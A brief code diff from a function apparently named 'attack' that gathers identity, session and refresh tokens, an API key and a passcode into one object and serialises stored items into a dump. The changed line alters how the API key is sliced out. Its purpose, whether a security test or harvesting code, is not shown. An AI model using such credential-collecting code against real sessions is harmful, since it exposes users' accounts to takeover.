@@ -137,7 +137,7 @@ attack(
       'an identity token': session.identityToken,
       'a session token': session.token,
       'a refresh token': session.refreshToken,
-      'an API key': standIns.apiKey.split('_')[2] ?? '',
+      'an API key': standIns.apiKey.slice(-32),
       'a passcode': unkeyed('qiscus', number, await passcodeFor(service, number)),
     };
     const dump = JSON.stringify(await standIns.items());
